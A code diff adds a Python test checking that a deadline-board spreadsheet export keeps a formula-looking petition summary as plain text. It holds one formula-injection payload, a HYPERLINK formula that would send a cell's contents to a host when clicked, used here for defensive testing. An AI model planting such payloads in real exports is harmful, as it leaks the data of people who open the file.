@@ -94,3 +94,19 @@ def test_every_board_state_has_its_vietnamese_name_on_the_printed_list() -> None
     from desktop.core.cases.board_export import STATE_VI
 
     assert set(STATE_VI) == set(BOARD_STATE_LABELS)
+
+
+def test_a_text_that_looks_like_a_formula_is_exported_as_text(database: Database, tmp_path: Path) -> None:
+    """A content typed (or imported from a hostile old book) as "=HYPERLINK(...)" must stay text: as a
+    formula it would run in the spreadsheet of whoever opens the export (formula injection)."""
+    hostile = '=HYPERLINK("http://127.0.0.1/?"&B7,"Bấm vào đây")'
+    _petition(database, dt.date(2026, 4, 21), content_summary=hostile)
+    path = tmp_path / "board.xlsx"
+    with database.sessions() as session:
+        rows = deadline_board(session, actor=NOBODY, today=TODAY)
+        write_board_xlsx(session, rows, describe("all", 5, BoardFilter(), rows), path, today=TODAY)
+    sheet = load_workbook(path).active
+    assert sheet is not None
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == hostile]
+    assert cells, "the content is exported"
+    assert all(cell.data_type == "s" for cell in cells)
